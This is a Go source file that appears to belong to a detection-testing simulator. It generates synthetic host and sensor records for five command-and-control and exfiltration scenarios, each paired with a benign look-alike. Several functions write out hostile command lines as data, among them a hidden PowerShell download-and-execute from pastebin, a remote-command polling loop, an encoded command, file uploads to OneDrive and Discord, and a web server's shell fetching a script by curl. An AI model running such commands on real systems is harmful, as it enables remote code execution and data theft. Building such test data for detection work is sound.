package simulator

import (
	"net/netip"
	"slices"
	"time"
)

// Uids of the analytics that guests' records should raise.
const (
	windowsAnalytic = "endpoint.windows"
	linuxAnalytic   = "endpoint.linux"
	macosAnalytic   = "endpoint.macos"
	fusionAnalytic  = "fusion.process_flow"
)

// guests writes the five validation tests, and the twin of each.
func (sc *script) guests() {
	paste := somewhere("pastebin.com", "203.0.113.150:443")
	graph := somewhere("graph.microsoft.com", "203.0.113.151:443")
	discord := somewhere("discord.com", "203.0.113.152:443")
	telegram := somewhere("api.telegram.org", "203.0.113.153:443")
	raw := somewhere("raw.githubusercontent.com", "203.0.113.154:443")

	sc.validation(partDrop, windowsAnalytic, paste, "a server reads its orders from a paste by PowerShell", sc.deadDrop)
	sc.validation(partGraph, windowsAnalytic, graph, "PowerShell copies files to OneDrive through Microsoft Graph", sc.graphUpload)
	sc.validation(partWebhook, windowsAnalytic, discord, "PowerShell posts what it found to a Discord web hook", sc.discordHook)
	sc.validation(partBot, windowsAnalytic, telegram, "a Python script is the bot of a Telegram account", sc.telegramBot)
	sc.validation(partRawFetch, linuxAnalytic, raw, "a web server's shell loads a script from raw.githubusercontent.com by curl", sc.rawFetch)
	sc.laptop(raw)

	sc.twin(partDesktop, byPeople, paste, sc.browser)
	sc.twin(partDesktop, byPeople, graph, sc.syncClient)
	sc.twin(partDesktop, byPeople, discord, sc.chatClient)
	sc.twin(partRunner, byBuilds, raw, sc.buildFetch)
	slices.SortStableFunc(sc.sensed.records, func(a, b GuestRecord) int { return a.Time.Compare(b.Time) })
}

// validation tells one of the tests: the hosts see a connection that nothing
// justifies, the sensor sees the process, and both together are a third
// finding.
func (sc *script) validation(who part, analytic string, to place, title string, tell func(*guest, place)) {
	g := sc.guest(who)
	if g == nil {
		return
	}
	a := sc.count(func() { tell(g, to) })
	s := Story{
		ID: "egress-" + string(who), Title: title + ", as its host sees it", VM: g.vm.Name, InstanceUUID: g.vm.InstanceUUID,
		Host: g.vm.Host, Address: g.addr, Verdict: "unjustified", Reason: "no_role",
	}
	s.ID = slug(s.ID)
	told := s
	if who == partBot {
		told.Signs = []Sign{ruleTelegramName, habitClock}
	}
	sc.publish(told, to, a)
	sc.sense(s, analytic, "sensor-"+string(who), title)
	sc.sense(s, fusionAnalytic, "fusion-"+string(who), title+": its host and its sensor together")
}

// sense publishes what the sensor's records add to a story. Its records and
// bytes are the lines'.
func (sc *script) sense(s Story, analytic, id, title string) {
	s.ID, s.Title, s.Analytic, s.Records, s.BytesOut = slug(id), title, analytic, 0, 0
	if analytic != fusionAnalytic { // a query is enough for these, and has neither
		s.Destination, s.Verdict, s.Reason = netip.Addr{}, "", ""
	}
	sc.sensed.truth.Stories = append(sc.sensed.truth.Stories, s)
}

func slug(id string) string {
	b := []byte(id)
	for i, c := range b {
		if c == ' ' {
			b[i] = '-'
		}
	}
	return string(b)
}

// twin tells what an honest program does at the same service.
func (sc *script) twin(who part, by string, to place, tell func(*guest, place)) {
	g := sc.guest(who)
	if g == nil {
		return
	}
	a := sc.count(func() { tell(g, to) })
	h := Honest{
		VM: g.vm.Name, InstanceUUID: g.vm.InstanceUUID, Address: g.addr, Destination: to.addr.Addr(), Name: to.name, Port: to.addr.Port(),
		By: by, Records: a.records, BytesOut: a.bytesOut, First: a.first, Last: a.last,
	}
	sc.truth.Honest = append(sc.truth.Honest, h)
	sc.sensed.truth.Honest = append(sc.sensed.truth.Honest, h)
}

func (sc *script) deadDrop(g *guest, to place) {
	shell := g.windowsProcess(sc.clock(21, 5), windowsPowerShell, `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/Xk3vQ9aB')"`, "svc-erp")
	g.scriptBlock(shell, "while ($true) { $o = Invoke-WebRequest -UseBasicParsing https://pastebin.com/raw/Xk3vQ9aB; iex $o.Content; Start-Sleep 1740 }")
	g.windowsVisits(shell, visits{to: to, begin: sc.clock(21, 6), count: 9, apart: 29 * time.Minute, out: 700, in: 4200})
}

func (sc *script) graphUpload(g *guest, to place) {
	shell := g.windowsProcess(sc.clock(22, 15), windowsPowerShell, `powershell.exe -ExecutionPolicy Bypass -File C:\Users\j.doe\AppData\Local\Temp\odsync.ps1`, "j.doe")
	g.scriptBlock(shell, "Invoke-RestMethod -Method Put -Uri https://graph.microsoft.com/v1.0/me/drive/root:/q3.zip:/content -InFile $f -Headers $h")
	g.windowsVisits(shell, visits{to: to, begin: sc.clock(22, 16), count: 6, apart: 11 * time.Minute, out: 30_000_000, in: 60_000})
}

func (sc *script) discordHook(g *guest, to place) {
	shell := g.windowsProcess(sc.clock(2, 40), windowsPowerShell, `powershell.exe -enc SQBuAHYAbwBrAGUALQBSAGUAcwB0AE0AZQB0AGgAbwBkAA==`, "SYSTEM")
	g.scriptBlock(shell, "Invoke-RestMethod -Uri https://discord.com/api/webhooks/1/x -Method Post -Body $j -ContentType application/json")
	g.windowsVisits(shell, visits{to: to, begin: sc.clock(2, 41), count: 5, apart: 13 * time.Minute, out: 90_000, in: 1500})
}

func (sc *script) telegramBot(g *guest, to place) {
	python := g.windowsProcess(sc.clock(20, 50), `C:\Users\Public\py\python.exe`, `C:\Users\Public\py\python.exe bot.py`, "ops")
	g.windowsVisits(python, visits{to: to, begin: sc.clock(20, 51), count: 40, apart: 10 * time.Minute, out: 1200, in: 1800})
}

func (sc *script) rawFetch(g *guest, to place) {
	for i := range 2 {
		at := sc.clock(3, 10).Add(time.Duration(i) * 17 * time.Minute)
		web := &process{pid: 902, path: "/usr/sbin/apache2", line: "/usr/sbin/apache2 -k start", user: "www-data"}
		shell := g.linuxProcess(at, "/usr/bin/dash", []string{"sh", "-c", "curl -s https://raw.githubusercontent.com/x/y/main/s.sh -o /tmp/.s"}, web)
		curl := g.linuxProcess(at.Add(20*time.Millisecond), "/usr/bin/curl", []string{"curl", "-s", "https://raw.githubusercontent.com/x/y/main/s.sh", "-o", "/tmp/.s"}, shell)
		g.linuxVisits(curl, visits{to: to, begin: at.Add(60 * time.Millisecond), count: 1, apart: time.Second, out: 900, in: 40_000})
		g.linuxWrites(at.Add(400*time.Millisecond), curl, "/tmp/.s")
	}
}

// laptop is a machine that no vCenter knows: only its sensors tell of it.
func (sc *script) laptop(to place) {
	g := &guest{sc: sc, name: "mac-lt-17.lab.example", addr: netip.MustParseAddr("10.9.7.17"), pid: 41000}
	zsh := &process{pid: 802, path: "/bin/zsh", line: "-zsh", user: "501"}
	begin := sc.clock(23, 30)
	curl := g.macProcess(begin, "/usr/bin/curl", []string{"curl", "-fsSL", "https://raw.githubusercontent.com/x/y/main/i.sh"}, zsh)
	g.macVisits(curl, visits{to: to, begin: begin.Add(50 * time.Millisecond), count: 2, apart: 2 * time.Second, out: 900, in: 40_000})
	s := Story{
		ID: "sensor-laptop", Title: "a laptop loads a script from raw.githubusercontent.com by curl", Address: g.addr, Host: g.name,
		Port: to.addr.Port(), Name: to.name, Analytic: macosAnalytic, First: begin, Last: begin,
	}
	sc.sensed.truth.Stories = append(sc.sensed.truth.Stories, s)
	safari := g.macProcess(begin.Add(20*time.Minute), "/Applications/Safari.app/Contents/MacOS/Safari", []string{"/Applications/Safari.app/Contents/MacOS/Safari"}, &process{pid: 1, path: "/sbin/launchd"})
	g.macVisits(safari, visits{to: to, begin: begin.Add(21 * time.Minute), count: 3, apart: time.Minute, out: 900, in: 40_000})
}

func (sc *script) browser(g *guest, to place) {
	chrome := g.windowsProcess(sc.clock(20, 10), `C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe"`, "a.user")
	g.windowsVisits(chrome, visits{to: to, begin: sc.clock(20, 30), count: 8, apart: 4 * time.Minute, out: 3000, in: 90_000})
}

func (sc *script) syncClient(g *guest, to place) {
	client := g.windowsProcess(sc.clock(20, 10), `C:\Program Files\Microsoft OneDrive\OneDrive.exe`, `"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`, "a.user")
	g.windowsVisits(client, visits{to: to, begin: sc.clock(20, 30), count: 20, apart: 15 * time.Minute, out: 200_000, in: 50_000})
}

func (sc *script) chatClient(g *guest, to place) {
	client := g.windowsProcess(sc.clock(20, 12), `C:\Users\a.user\AppData\Local\Discord\app-1.0.9\Discord.exe`, `"C:\Users\a.user\AppData\Local\Discord\app-1.0.9\Discord.exe"`, "a.user")
	g.windowsVisits(client, visits{to: to, begin: sc.clock(20, 40), count: 12, apart: 9 * time.Minute, out: 5000, in: 20_000})
}

func (sc *script) buildFetch(g *guest, to place) {
	runner := &process{pid: 640, path: "/opt/runner/bin/Runner.Worker", line: "/opt/runner/bin/Runner.Worker", user: "runner"}
	for i := range 12 {
		at := sc.clock(21, 0).Add(time.Duration(i) * 31 * time.Minute)
		curl := g.linuxProcess(at, "/usr/bin/curl", []string{"curl", "-sSfL", "https://raw.githubusercontent.com/tool/install/main/install.sh"}, runner)
		g.linuxVisits(curl, visits{to: to, begin: at.Add(40 * time.Millisecond), count: 1, apart: time.Second, out: 900, in: 60_000})
	}
}
